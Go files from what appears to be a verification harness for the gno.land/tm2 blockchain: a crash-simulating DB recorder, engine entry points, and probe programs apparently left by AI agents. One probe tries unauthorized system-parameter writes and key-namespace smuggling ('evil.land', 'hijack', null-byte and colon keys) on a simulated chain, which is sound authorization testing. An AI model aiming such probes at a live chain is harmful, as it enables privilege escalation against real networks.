	case k == auth.GasPriceKey:
		return "gasprice"
	case k == auth.GlobalAccountNumberKey:
		return "accnum"
	case strings.HasPrefix(k, "pkg:"):
		return "pkg"
	}
	// escaped-object hash entries are keyed by the bare object id "<pkgid hex>:<n>"
	if i := strings.IndexByte(k, ':'); i == 40 {
		return "escaped"
	}
	return "other:" + fmt.Sprintf("%q", k)
}

// Balances returns every (address, coins) pair on committed state, merging
// the account tier (coins inside the account object) with split balance keys.
func (v *View) Balances() map[string]std.Coins {
	out := map[string]std.Coins{}
	v.Acck.IterateAccounts(v.Ctx, func(acc std.Account) bool {
		out[acc.GetAddress().String()] = v.Bankk.GetCoins(v.Ctx, acc.GetAddress())
		return false
	})
	return out
}

// BankInvariants evaluates the repository's own invariant sets on this view.
func (v *View) Invariants() []string {
	var out []string
	for _, inv := range []sdk.Invariant{
		bank.BalanceKeysInvariant(v.Bankk.ViewKeeper), bank.AccountTierInvariant(v.Bankk.ViewKeeper), bank.SupplyInvariant(v.Bankk.ViewKeeper),
		auth.AllInvariants(v.Acck),
	} {
		if msg, broken := inv(v.Ctx); broken {
			out = append(out, msg)
		}
	}
	return out
}
