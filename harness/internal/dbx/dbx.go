// Package dbx wraps a dbm.DB to observe and control durable writes: it counts
// every physical write unit (Set / SetSync / Delete / DeleteSync, and a batch's
// Write / WriteSync as ONE unit), can snapshot the durable image after each
// unit, inject delays before units, and turn "dead" (drop all later writes),
// which is observationally a kill -9 at that point.
package dbx

import (
	"sync"

	dbm "github.com/gnolang/gno/tm2/pkg/db"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"
)

// Unit describes one physical write unit.
type Unit struct {
	Index int
	Kind  string // set | setsync | delete | deletesync | batch | batchsync
	Ops   int    // operations inside a batch (1 otherwise)
}

// Recorder wraps a DB.
type Recorder struct {
	dbm.DB
	mu     sync.Mutex
	units  []Unit
	dead   bool
	// OnUnit is called (without the lock) right AFTER a unit was applied.
	OnUnit func(u Unit)
	// Before is called right BEFORE a unit is applied (delay/yield injection).
	Before func(kind string)
}

// NewRecorder wraps db.
func NewRecorder(db dbm.DB) *Recorder { return &Recorder{DB: db} }

// Units returns the units seen so far.
func (r *Recorder) Units() []Unit {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Unit(nil), r.units...)
}

// Kill makes every later write a silent no-op.
func (r *Recorder) Kill() { r.mu.Lock(); r.dead = true; r.mu.Unlock() }

func (r *Recorder) unit(kind string, ops int, apply func() error) error {
	if r.Before != nil {
		r.Before(kind)
	}
	r.mu.Lock()
	if r.dead {
		r.mu.Unlock()
		return nil
	}
	err := apply()
	u := Unit{Index: len(r.units), Kind: kind, Ops: ops}
	r.units = append(r.units, u)
	cb := r.OnUnit
	r.mu.Unlock()
	if cb != nil {
		cb(u)
	}
	return err
}

func (r *Recorder) Set(k, v []byte) error     { return r.unit("set", 1, func() error { return r.DB.Set(k, v) }) }
func (r *Recorder) SetSync(k, v []byte) error { return r.unit("setsync", 1, func() error { return r.DB.SetSync(k, v) }) }
func (r *Recorder) Delete(k []byte) error     { return r.unit("delete", 1, func() error { return r.DB.Delete(k) }) }
func (r *Recorder) DeleteSync(k []byte) error { return r.unit("deletesync", 1, func() error { return r.DB.DeleteSync(k) }) }
func (r *Recorder) Close() error              { return nil } // keep the image reachable after App.Close

func (r *Recorder) NewBatch() dbm.Batch              { return &batch{r: r, b: r.DB.NewBatch()} }
func (r *Recorder) NewBatchWithSize(n int) dbm.Batch { return &batch{r: r, b: r.DB.NewBatchWithSize(n)} }

type batch struct {
	r   *Recorder
	b   dbm.Batch
	ops int
}

func (b *batch) Set(k, v []byte) error  { b.ops++; return b.b.Set(k, v) }
func (b *batch) Delete(k []byte) error  { b.ops++; return b.b.Delete(k) }
func (b *batch) Write() error           { return b.r.unit("batch", b.ops, b.b.Write) }
func (b *batch) WriteSync() error       { return b.r.unit("batchsync", b.ops, b.b.WriteSync) }
func (b *batch) Close() error           { return b.b.Close() }
func (b *batch) GetByteSize() (int, error) { return b.b.GetByteSize() }

// CloneMem copies every key/value of db into a fresh memdb.
func CloneMem(db dbm.DB) *memdb.MemDB {
	out := memdb.NewMemDB()
	it, err := db.Iterator(nil, nil)
	if err != nil {
		panic(err)
	}
	defer it.Close()
	for ; it.Valid(); it.Next() {
		out.Set(append([]byte(nil), it.Key()...), append([]byte(nil), it.Value()...))
	}
	return out
}
