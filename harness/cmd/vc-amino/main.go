// vc-amino: verification engine (see /verif/DESIGN.md 2.1).
package main

import "verifharness/internal/vf"

func main() { vf.Main() }
