// zz-libf: private development engine of agent libF (removed before finishing).
package main

import (
	_ "verifharness/checks/c34"
	_ "verifharness/checks/c38"
	_ "verifharness/checks/c41"
	"verifharness/internal/vf"
)

func main() { vf.Main() }
