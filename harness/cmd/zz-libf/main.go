// zz-libf: private development engine of agent libF (removed before finishing).
package main

import (
	"os"
	"runtime/pprof"
	"time"

	_ "verifharness/checks/c34"
	_ "verifharness/checks/c38"
	_ "verifharness/checks/c41"
	"verifharness/internal/vf"
)

func main() {
	if p := os.Getenv("ZZ_PROF"); p != "" {
		f, _ := os.Create(p)
		pprof.StartCPUProfile(f)
		go func() {
			time.Sleep(40 * time.Second)
			pprof.StopCPUProfile()
			f.Close()
		}()
	}
	vf.Main()
}
