package main

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/gnolang/gno/tm2/pkg/bft/privval"
	"github.com/gnolang/gno/tm2/pkg/bft/privval/signer/local"
	"github.com/gnolang/gno/tm2/pkg/bft/types"
)

func main() {
	dir, _ := os.MkdirTemp("/verif/.work", "probe")
	defer os.RemoveAll(dir)
	sg, _ := local.LoadOrMakeLocalSigner(filepath.Join(dir, "key.json"))
	st := filepath.Join(dir, "state.json")
	pv, err := privval.NewPrivValidator(sg, st)
	if err != nil {
		panic(err)
	}
	b, _ := os.ReadFile(st)
	fmt.Printf("%s\n", b)
	ts := time.Unix(1700000000, 5).UTC()
	v := &types.Vote{Type: types.PrecommitType, Height: 5, Round: 0, Timestamp: ts}
	fmt.Println("sign 5/0/precommit:", pv.SignVote("c", v))
	b, _ = os.ReadFile(st)
	fmt.Printf("%s\n", b)
	v1 := &types.Vote{Type: types.PrecommitType, Height: 6, Round: -1, Timestamp: ts, BlockID: types.BlockID{Hash: []byte("A")}}
	fmt.Println("sign 6/-1/precommit:", pv.SignVote("c", v1))
	v2 := &types.Vote{Type: types.PrecommitType, Height: 6, Round: -1, Timestamp: ts.Add(time.Second), BlockID: types.BlockID{Hash: []byte("A")}}
	fmt.Println("re-sign 6/-1/precommit (new timestamp):", pv.SignVote("c", v2), "sig returned:", len(v2.Signature))
	b, _ = os.ReadFile(st)
	fmt.Printf("on disk: %s\n", b)
	// restart
	pv, err = privval.NewPrivValidator(sg, st)
	if err != nil {
		panic(err)
	}
	v3 := &types.Vote{Type: types.PrevoteType, Height: 5, Round: 1, Timestamp: ts}
	fmt.Println("after restart sign 5/1/prevote:", pv.SignVote("c", v3), "sig returned:", len(v3.Signature))
}
