package main

import (
	"fmt"
	"math/rand/v2"

	"github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/crypto/ed25519"
)

func key(i int) ed25519.PrivKeyEd25519 { return ed25519.GenPrivKeyFromSecret([]byte(fmt.Sprintf("k%d", i))) }

func pr(vs *types.ValidatorSet) string {
	s := ""
	for _, v := range vs.Validators {
		s += fmt.Sprintf("%d(p%d) ", v.ProposerPriority, v.VotingPower)
	}
	return s
}

func main() {
	r := rand.New(rand.NewPCG(1, 2))
	diff, total := 0, 0
	kinds := map[string]int{}
	for t := 0; t < 20000; t++ {
		n := 2 + r.IntN(3)
		var vals []*types.Validator
		for i := 0; i < n; i++ {
			vals = append(vals, types.NewValidator(key(i).PubKey(), 1+r.Int64N(100)))
		}
		vs := types.NewValidatorSet(vals)
		for k := r.IntN(6); k > 0; k-- {
			vs.IncrementProposerPriority(1)
		}
		kind := ""
		var ch []*types.Validator
		switch r.IntN(4) {
		case 0:
			kind = "add1"
			ch = append(ch, types.NewValidator(key(9).PubKey(), 1))
		case 1:
			kind = "remove"
			ch = append(ch, types.NewValidator(key(0).PubKey(), 0))
		case 2:
			kind = "remove+add1"
			ch = append(ch, types.NewValidator(key(0).PubKey(), 0), types.NewValidator(key(9).PubKey(), 1))
		default:
			kind = "addbig"
			ch = append(ch, types.NewValidator(key(9).PubKey(), 500))
		}
		before := pr(vs)
		if err := vs.UpdateWithChangeSet(ch); err != nil {
			continue
		}
		vs.IncrementProposerPriority(1) // V[c]
		total++
		for m := 2; m <= 4; m++ {
			a := vs.CopyIncrementProposerPriority(m)
			b := vs.Copy()
			for j := 0; j < m; j++ {
				b.IncrementProposerPriority(1)
			}
			if pr(a) != pr(b) {
				diff++
				kinds[kind]++
				if diff <= 3 {
					fmt.Printf("kind=%s m=%d\n before change: %s\n V[c]: %s\n inc(%d): %s\n inc(1)x%d: %s\n", kind, m, before, pr(vs), m, pr(a), m, pr(b))
				}
				break
			}
		}
	}
	fmt.Println("differ", diff, "of", total, kinds)
}
