package main

import (
	"fmt"
	"os"
	"path/filepath"

	auto "github.com/gnolang/gno/tm2/pkg/autofile"
	walm "github.com/gnolang/gno/tm2/pkg/bft/wal"
	"github.com/gnolang/gno/tm2/pkg/log"

	c38 "verifharness/checks/c38"
)

func main() {
	dir, _ := os.MkdirTemp("/verif/.work", "probe")
	defer os.RemoveAll(dir)
	wal, err := walm.NewWAL(filepath.Join(dir, "wal"), 1<<20, auto.GroupHeadSizeLimit(60))
	if err != nil {
		panic(err)
	}
	wal.SetLogger(log.NewNoopLogger())
	wal.Start() // writes #0
	for i := 1; i <= 6; i++ {
		wal.Write(c38.RoundStepMsg{Height: 1, Round: i, Step: 1})
	}
	wal.WriteMetaSync(walm.MetaMessage{Height: 1})
	wal.Write(c38.RoundStepMsg{Height: 2, Round: 0, Step: 1})
	wal.FlushAndSync()
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		b, _ := os.ReadFile(filepath.Join(dir, e.Name()))
		n := 0
		meta := ""
		for _, ln := range splitLines(b) {
			n++
			if len(ln) > 0 && ln[0] == '#' {
				meta += " " + ln
			}
		}
		fmt.Printf("%s: %d lines%s\n", e.Name(), n, meta)
	}
	for _, h := range []int64{1, 0, 2} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					fmt.Println("SearchForHeight", h, "PANIC:", r)
				}
			}()
			_, found, err := wal.SearchForHeight(h, nil)
			fmt.Println("SearchForHeight", h, "found", found, "err", err)
		}()
	}
	wal.Stop()
}

func splitLines(b []byte) []string {
	var out []string
	cur := ""
	for _, c := range b {
		if c == '\n' {
			out = append(out, cur)
			cur = ""
		} else {
			cur += string(c)
		}
	}
	return out
}
