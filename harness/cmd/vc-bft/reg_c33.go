package main

import _ "verifharness/checks/c33"
