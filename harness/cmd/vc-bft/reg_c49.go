package main

import _ "verifharness/checks/c49"
