package main

import _ "verifharness/checks/c23"
