// vc-lib: engine for the tm2 library properties.
package main

import "verifharness/internal/vf"

func main() { vf.Main() }
