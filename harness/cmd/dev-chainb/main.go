// dev-chainb: scratch probes of agent chainB (removed when the checks are done).
package main

import (
	"fmt"
	"os"
	"time"

	"github.com/gnolang/gno/gno.land/pkg/sdk/vm"

	"verifharness/checks/c12/exload"
	"verifharness/internal/chainsim"
	"verifharness/internal/vf"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "probe" {
		probe()
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "probe4" {
		probe4()
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "probe2" {
		probe2()
		return
	}
	vf.Main()
}

func probe() {
	root := vf.RepoRoot() + "/examples"
	for _, set := range [][]string{{"gno.land/r/sys/params"}, {"gno.land/r/sys/names"}, {"gno.land/r/gov/dao/v3/init"}, {"gno.land/r/sys/params", "gno.land/r/sys/names", "gno.land/r/gov/dao/v3/init"}} {
		ps, err := exload.Load(root, set...)
		if err != nil {
			fmt.Println("ERR", err)
			continue
		}
		n := 0
		for _, p := range ps {
			for _, b := range p.Files {
				n += len(b)
			}
		}
		fmt.Println(set, len(ps), "packages", n, "bytes")
		if len(set) == 3 {
			for _, p := range ps {
				fmt.Println("  ", p.Path)
			}
		}
	}
	ps, _ := exload.Load(root, "gno.land/r/sys/params", "gno.land/r/sys/names", "gno.land/r/gov/dao/v3/init")
	t0 := time.Now()
	ch, err := chainsim.New(chainsim.Options{})
	if err != nil {
		panic(err)
	}
	st := ch.DefaultGenState("alice", "bob", "gov")
	dep := ch.Acc("gov")
	for _, p := range ps {
		msg := vm.NewMsgAddPackage(dep.Addr, p.Path, p.MemFiles())
		tx := chainsim.GenesisAddPkgTx(dep, p.Path, nil)
		tx.Tx.Msgs[0] = msg
		st.Txs = append(st.Txs, tx)
	}
	r := ch.InitChain(st)
	fmt.Println("initchain", time.Since(t0), r.Error)
	for i, tr := range r.TxResponses {
		if tr.Error != nil {
			fmt.Println("genesis tx", i, ps[i].Path, tr.Error, tr.Log)
		}
	}
	ch.RunBlock()
	fmt.Println("block1", time.Since(t0))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/sys/params"))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/sys/params/gnomod.toml"))
}
