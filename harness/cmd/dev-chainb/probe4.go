package main

import (
	"fmt"

	"github.com/gnolang/gno/tm2/pkg/std"

	"verifharness/internal/chainsim"
)

func probe4() {
	ch, err := chainsim.New(chainsim.Options{})
	if err != nil {
		panic(err)
	}
	st := ch.DefaultGenState("alice", "bob", "gov")
	dep := ch.Acc("gov")
	st.Txs = append(st.Txs,
		chainsim.GenesisAddPkgTx(dep, "gno.land/p/verif/mut", map[string]string{"mut.gno": mutSrc}),
		chainsim.GenesisAddPkgTx(dep, "gno.land/r/verif/reader", map[string]string{"reader.gno": "package reader\n\nimport \"gno.land/p/verif/mut\"\n\nvar Seen int\n\nfunc Read(cur realm) int { Seen = mut.Obj.N; return mut.Obj.N }\n\nfunc Peek() int { return mut.Obj.N }\n"}),
	)
	r := ch.InitChain(st)
	for i, tr := range r.TxResponses {
		if tr.Error != nil {
			fmt.Println("genesis tx", i, tr.Error, tr.Log)
		}
	}
	ch.RunBlock()
	alice := ch.Acc("alice")
	fee := chainsim.Fee(300_000_000, 1_000_000)
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	show("run init bump + main reads", ch.OneTx([]std.Msg{chainsim.MsgRun(alice, "package main\n\nimport (\n\t\"gno.land/p/verif/mut\"\n\t\"gno.land/r/verif/reader\"\n)\n\nfunc init() {\n\tmut.Obj.Bump()\n\tmut.Obj.Bump()\n}\n\nfunc main(cur realm) {\n\tprintln(\"main sees\", mut.Obj.N, \"reader sees\", reader.Read(cross(cur)), mut.State())\n}\n")}, fee, alice))
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	fmt.Println(ch.Eval("gno.land/r/verif/reader", "Seen"))
	// two txs in the same block: deploy realm with init bump, then read via reader
	ch.BeginBlock()
	tr1 := ch.DeliverSigned([]std.Msg{chainsim.MsgAddPkg(alice, "gno.land/r/verif/bumper", map[string]string{"bumper.gno": "package bumper\n\nimport \"gno.land/p/verif/mut\"\n\nvar Got int\n\nfunc init() {\n\tGot = mut.Obj.Bump()\n}\n"})}, fee, alice)
	alice.Seq++
	tr2 := ch.DeliverSigned([]std.Msg{chainsim.MsgCall(alice, "gno.land/r/verif/reader", "Read")}, fee, alice)
	ch.EndBlockCommit()
	show("deploy bumper", tr1)
	show("reader.Read same block", tr2)
	fmt.Println(ch.Eval("gno.land/r/verif/bumper", "Got"))
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	// multi-msg tx: msg1 addpkg with init bump; msg2 call reader
	show("multi-msg", ch.OneTx([]std.Msg{
		chainsim.MsgAddPkg(alice, "gno.land/r/verif/bumper2", map[string]string{"bumper2.gno": "package bumper2\n\nimport \"gno.land/p/verif/mut\"\n\nvar Got int\n\nfunc init() {\n\tGot = mut.Obj.Bump()\n}\n"}),
		chainsim.MsgCall(alice, "gno.land/r/verif/reader", "Read"),
	}, fee, alice))
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	ch.Restart()
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	fmt.Println(ch.Eval("gno.land/r/verif/reader", "Seen"))
}
