package main

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/gnolang/gno/tm2/pkg/std"

	"verifharness/internal/chainsim"
)

func setterSrc(pkg string, extraImport string, extra string) string {
	return `package ` + pkg + `

import (
	"chain/params"
	"strconv"
	"strings"
` + extraImport + `
)

var Writes int

func do(kind, key, val string) {
	switch kind {
	case "string":
		params.SetString(key, val)
	case "bool":
		params.SetBool(key, val == "true")
	case "int64":
		n, _ := strconv.Atoi(val)
		params.SetInt64(key, int64(n))
	case "uint64":
		n, _ := strconv.Atoi(val)
		params.SetUint64(key, uint64(n))
	case "bytes":
		if val == "" {
			params.SetBytes(key, nil)
		} else {
			params.SetBytes(key, []byte(val))
		}
	case "strings":
		params.SetStrings(key, strings.Split(val, ","))
	case "update+":
		params.UpdateParamStrings(key, strings.Split(val, ","), true)
	case "update-":
		params.UpdateParamStrings(key, strings.Split(val, ","), false)
	default:
		panic("unknown kind " + kind)
	}
}
` + extra
}

const realmExtra = `
func Set(cur realm, kind, key, val string) string {
	Writes++
	do(kind, key, val)
	return "ok"
}

func Try(cur realm, kind, key, val string) (out string) {
	Writes++
	defer func() {
		if r := recover(); r != nil {
			out = "recovered"
		}
	}()
	do(kind, key, val)
	return "ok"
}
`

const paExtra = realmExtra + `
func ViaLib(cur realm, kind, key, val string) string {
	Writes++
	plib.Do(kind, key, val)
	return "ok"
}

func ViaPeer(cur realm, kind, key, val string) string {
	Writes++
	return pb.Set(cross(cur), kind, key, val)
}

func ViaSub(cur realm, kind, key, val string) string {
	Writes++
	sub := cur.Sub("s1")
	return pb.Set(cross(sub), kind, key, val)
}
`

const plibExtra = `
func Do(kind, key, val string) { do(kind, key, val) }
`

const sysUserSrc = `package sysuser

import prms "sys/params"

func Set(cur realm, module, sub, name, val string) {
	prms.SetSysParamString(module, sub, name, val)
}
`

func probe3(ch *chainsim.Chain) {
	alice, gov := ch.Acc("alice"), ch.Acc("gov")
	fee := chainsim.Fee(300_000_000, 1_000_000)
	one := func(label string, who *chainsim.Account, msgs ...std.Msg) *chainsim.TxResult {
		before := paramKeys(ch)
		tr := ch.OneTx(msgs, fee, who)
		show(label, tr)
		diffParams(before, paramKeys(ch))
		return tr
	}
	one("deploy plib", alice, chainsim.MsgAddPkg(alice, "gno.land/p/verif/plib", map[string]string{"plib.gno": setterSrc("plib", "", plibExtra)}))
	one("deploy pb", alice, chainsim.MsgAddPkg(alice, "gno.land/r/verif/pb", map[string]string{"pb.gno": setterSrc("pb", "", realmExtra)}))
	one("deploy pa", alice, chainsim.MsgAddPkg(alice, "gno.land/r/verif/pa", map[string]string{"pa.gno": setterSrc("pa", "\t\"gno.land/p/verif/plib\"\n\t\"gno.land/r/verif/pb\"\n", paExtra)}))
	call := func(fn, kind, key, val string) {
		one(fmt.Sprintf("pa.%s(%s,%q,%q)", fn, kind, key, val), alice, chainsim.MsgCall(alice, "gno.land/r/verif/pa", fn, kind, key, val))
	}
	for _, k := range []string{"string", "bool", "int64", "uint64", "bytes", "strings", "update+", "update-"} {
		call("Set", k, "k_"+strings.Trim(k, "+-"), "1")
	}
	call("Set", "bytes", "k_bytes", "")
	call("ViaLib", "string", "lib", "x")
	call("ViaPeer", "string", "peer", "x")
	call("ViaSub", "string", "sub", "x")
	for _, key := range []string{"a:b", "", ":", "vm", "p", "vm:p", "p:chain_domain", "auth", "bank:p:restricted_denoms", "gno.land/r/verif/pb", "gno.land/r/verif/pb:peer", "_realmmeta_gno.land/r/verif/pb", "a\x00b", "\x00", strings.Repeat("k", 5000), "κλειδί", "a/b", "a b", "/pv/x", "#", "a#b"} {
		lbl := key
		if len(lbl) > 40 {
			lbl = lbl[:40] + "…"
		}
		call("Set", "string", key, "v")
		call("Try", "string", key, "v")
		_ = lbl
	}
	// MsgRun
	run := func(label, body string) {
		one("run: "+label, alice, chainsim.MsgRun(alice, body))
	}
	run("direct SetString", "package main\n\nimport \"chain/params\"\n\nfunc main(cur realm) {\n\tparams.SetString(\"runkey\", \"v\")\n}\n")
	run("direct SetString non-crossing main", "package main\n\nimport \"chain/params\"\n\nfunc main() {\n\tparams.SetString(\"runkey2\", \"v\")\n}\n")
	run("via pa.Set", "package main\n\nimport \"gno.land/r/verif/pa\"\n\nfunc main(cur realm) {\n\tprintln(pa.Set(cross(cur), \"string\", "+strconv.Quote("fromrun")+", \"v\"))\n}\n")
	run("via plib", "package main\n\nimport \"gno.land/p/verif/plib\"\n\nfunc main(cur realm) {\n\tplib.Do(\"string\", \"runlib\", \"v\")\n}\n")
	// sys/params from other realms
	one("deploy sysuser (imports sys/params)", alice, chainsim.MsgAddPkg(alice, "gno.land/r/verif/sysuser", map[string]string{"sysuser.gno": sysUserSrc}))
	one("sysuser.Set", alice, chainsim.MsgCall(alice, "gno.land/r/verif/sysuser", "Set", "bank", "p", "restricted_denoms", "x"))
	run("sys/params from run", "package main\n\nimport prms \"sys/params\"\n\nfunc main(cur realm) {\n\tprms.SetSysParamString(\"vm\", \"p\", \"chain_domain\", \"evil.land\")\n}\n")
	one("redeploy r/sys/params", alice, chainsim.MsgAddPkg(alice, "gno.land/r/sys/params", map[string]string{"params.gno": "package params\n\nimport prms \"sys/params\"\n\nfunc Set(cur realm, m, s, n, v string) { prms.SetSysParamString(m, s, n, v) }\n"}))
	one("deploy r/sys/params2", alice, chainsim.MsgAddPkg(alice, "gno.land/r/sys/params2", map[string]string{"params2.gno": "package params2\n\nimport prms \"sys/params\"\n\nfunc Set(cur realm, m, s, n, v string) { prms.SetSysParamString(m, s, n, v) }\n"}))
	one("params2.Set", alice, chainsim.MsgCall(alice, "gno.land/r/sys/params2", "Set", "bank", "p", "restricted_denoms", "x"))
	// governance
	one("govimpl.Install", gov, chainsim.MsgCall(gov, "gno.land/r/verif/govimpl", "Install"))
	prop := func(label, expr string) {
		one("gov: "+label, gov, chainsim.MsgRun(gov, "package main\n\nimport (\n\t\"gno.land/r/gov/dao\"\n\t\"gno.land/r/sys/params\"\n)\n\nfunc main(cur realm) {\n\tpid := dao.MustCreateProposal(cross(cur), params."+expr+")\n\tprintln(dao.ExecuteProposal(cross(cur), pid))\n}\n"))
	}
	prop("bank restricted_denoms [foo]", `NewSysParamStringsPropRequest(cross(cur), "bank", "p", "restricted_denoms", []string{"foo"})`)
	prop("bank restricted_denoms [Bad Denom]", `NewSysParamStringsPropRequest(cross(cur), "bank", "p", "restricted_denoms", []string{"Bad Denom"})`)
	prop("vm storage_price 200ugnot", `NewSysParamStringPropRequest(cross(cur), "vm", "p", "storage_price", "200ugnot")`)
	prop("vm chain_domain invalid", `NewSysParamStringPropRequest(cross(cur), "vm", "p", "chain_domain", "not a domain")`)
	prop("vm iter_next_cost_flat 0", `NewSysParamInt64PropRequest(cross(cur), "vm", "p", "iter_next_cost_flat", 0)`)
	prop("vm unknown key", `NewSysParamStringPropRequest(cross(cur), "vm", "p", "nonexistent", "x")`)
	prop("vm wrong type", `NewSysParamInt64PropRequest(cross(cur), "vm", "p", "storage_price", 5)`)
	prop("unknown module", `NewSysParamStringPropRequest(cross(cur), "nomod", "p", "x", "y")`)
	prop("auth max_memo_bytes 70000", `NewSysParamInt64PropRequest(cross(cur), "auth", "p", "max_memo_bytes", 70000)`)
	prop("auth max_memo_bytes 0", `NewSysParamInt64PropRequest(cross(cur), "auth", "p", "max_memo_bytes", 0)`)
	prop("node valset generic", `NewSysParamStringsPropRequest(cross(cur), "node", "valset", "proposed", []string{})`)
	prop("vm realm-scoped key via sys", `NewSysParamStringPropRequest(cross(cur), "vm", "gno.land/r/verif/pb", "peer", "hijack")`)
	prop("name with colon", `NewSysParamStringPropRequest(cross(cur), "vm", "p", "a:b", "x")`)
	prop("bytes to vm p", `NewSysParamBytesPropRequest(cross(cur), "vm", "p", "chain_domain", []byte("evil.land"))`)
	one("SetValsetProposal from run", alice, chainsim.MsgRun(alice, "package main\n\nimport \"gno.land/r/sys/params\"\n\nfunc main(cur realm) {\n\tparams.SetValsetProposal(cross(cur), []string{})\n}\n"))
}
