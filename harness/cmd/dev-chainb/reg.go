package main

import (
	_ "verifharness/checks/c12"
	_ "verifharness/checks/c13"
)
