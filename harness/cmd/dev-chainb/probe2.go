package main

import (
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/gnolang/gno/gno.land/pkg/sdk/vm"
	"github.com/gnolang/gno/tm2/pkg/std"

	"verifharness/checks/c12/exload"
	"verifharness/internal/audit"
	"verifharness/internal/chainsim"
	"verifharness/internal/vf"
)

const mutSrc = `package mut

var Counter int
var Items []int
var M = map[string]int{"k": 1}

type T struct{ N int }

var Obj = &T{}

func Inc() int             { Counter++; return Counter }
func Append(x int) int     { Items = append(Items, x); return len(Items) }
func SetM(k string, v int) { M[k] = v }
func (t *T) Bump() int     { t.N++; return t.N }
func BumpObj() int         { Obj.N++; return Obj.N }
func State() string        { return sitoa(Counter) + "/" + sitoa(len(Items)) + "/" + sitoa(len(M)) + "/" + sitoa(M["k"]) + "/" + sitoa(Obj.N) }
func sitoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	neg := n < 0
	if neg {
		n = -n
	}
	for n > 0 {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	if neg {
		s = "-" + s
	}
	return s
}
`

const mutUserSrc = `package mutuser

import "gno.land/p/verif/mut"

var Calls int

func Poke(cur realm, which int) int {
	Calls++
	switch which {
	case 0:
		return mut.Inc()
	case 1:
		return mut.Append(3)
	case 2:
		mut.SetM("z", 9)
		return 1
	case 3:
		return mut.Obj.Bump()
	case 4:
		return mut.BumpObj()
	case 5:
		mut.Obj.N = 77
		return 77
	case 6:
		mut.M["k"] = 5
		return 5
	}
	return -1
}
`

const daoImplSrc = `package govimpl

import "gno.land/r/gov/dao"

type impl struct{}

func (impl) PreCreateProposal(_ int, rlm realm, r dao.ProposalRequest) (address, error) {
	return rlm.Previous().Address(), nil
}
func (impl) PostCreateProposal(_ int, rlm realm, r dao.ProposalRequest, pid dao.ProposalID) {}
func (impl) VoteOnProposal(_ int, rlm realm, r dao.VoteRequest) error                  { return nil }
func (impl) PreExecuteProposal(_ int, rlm realm, pid dao.ProposalID) (bool, error)      { return true, nil }
func (impl) ExecuteProposal(_ int, rlm realm, pid dao.ProposalID, e dao.Executor) error {
	return e.Execute(cross(rlm))
}
func (impl) Render(cur realm, pkgpath string, path string) string { return "verif dao" }

func Install(cur realm) {
	dao.UpdateImpl(cross(cur), dao.NewUpdateRequest(impl{}, []string{"gno.land/r/verif/govimpl"}))
}
`

func show(label string, tr *chainsim.TxResult) {
	e := tr.ErrString
	if i := strings.Index(tr.Log, "Stacktrace"); i > 0 {
		e += " | " + tr.Log[:i]
	} else if !tr.OK {
		e += " | " + tr.Log
	}
	if len(e) > 400 {
		e = e[:400]
	}
	fmt.Printf("%-40s ok=%v gas=%d data=%q %s\n", label, tr.OK, tr.Res.GasUsed, string(tr.Res.Data), strings.ReplaceAll(e, "\n", " "))
}

func paramKeys(ch *chainsim.Chain) map[string]string {
	st, _, err := audit.Snapshot(ch.DB, 0)
	if err != nil {
		panic(err)
	}
	out := map[string]string{}
	for _, k := range st.Main.Keys {
		if audit.KeyClass(k) == "param" {
			out[k] = string(st.Main.M[k])
		}
	}
	return out
}

func diffParams(a, b map[string]string) {
	for k, v := range b {
		if ov, ok := a[k]; !ok {
			fmt.Printf("    + %q = %q\n", k, v)
		} else if ov != v {
			fmt.Printf("    ~ %q = %q (was %q)\n", k, v, ov)
		}
	}
	for k := range a {
		if _, ok := b[k]; !ok {
			fmt.Printf("    - %q\n", k)
		}
	}
}

func probe2() {
	root := vf.RepoRoot() + "/examples"
	ps, err := exload.Load(root, "gno.land/r/sys/params")
	if err != nil {
		panic(err)
	}
	t0 := time.Now()
	ch, err := chainsim.New(chainsim.Options{})
	if err != nil {
		panic(err)
	}
	st := ch.DefaultGenState("alice", "bob", "gov")
	dep := ch.Acc("gov")
	for _, p := range ps {
		tx := chainsim.GenesisAddPkgTx(dep, p.Path, nil)
		tx.Tx.Msgs[0] = vm.NewMsgAddPackage(dep.Addr, p.Path, p.MemFiles())
		st.Txs = append(st.Txs, tx)
	}
	st.Txs = append(st.Txs,
		chainsim.GenesisAddPkgTx(dep, "gno.land/r/verif/govimpl", map[string]string{"govimpl.gno": daoImplSrc}),
		chainsim.GenesisAddPkgTx(dep, "gno.land/p/verif/mut", map[string]string{"mut.gno": mutSrc}),
		chainsim.GenesisAddPkgTx(dep, "gno.land/r/verif/mutuser", map[string]string{"mutuser.gno": mutUserSrc}),
	)
	r := ch.InitChain(st)
	fmt.Println("initchain", time.Since(t0), r.Error)
	for i, tr := range r.TxResponses {
		if tr.Error != nil {
			fmt.Println("genesis tx", i, tr.Error, tr.Log)
		}
	}
	ch.RunBlock()
	alice, bob := ch.Acc("alice"), ch.Acc("bob")
	fee := chainsim.Fee(300_000_000, 1_000_000)
	pk := paramKeys(ch)
	fmt.Println("param keys at genesis:")
	for k, v := range pk {
		fmt.Printf("   %q = %q\n", k, v)
	}

	// ---- C12 basics
	body := func(name, marker string) string {
		return "package " + name + "\n\nvar N int\n\nfunc Marker() string { return \"" + marker + "\" }\n\nfunc Bump(cur realm) int { N++; return N }\n"
	}
	add := func(label string, who *chainsim.Account, path string, files map[string]string) *chainsim.TxResult {
		tr := ch.OneTx([]std.Msg{chainsim.MsgAddPkg(who, path, files)}, fee, who)
		show(label, tr)
		return tr
	}
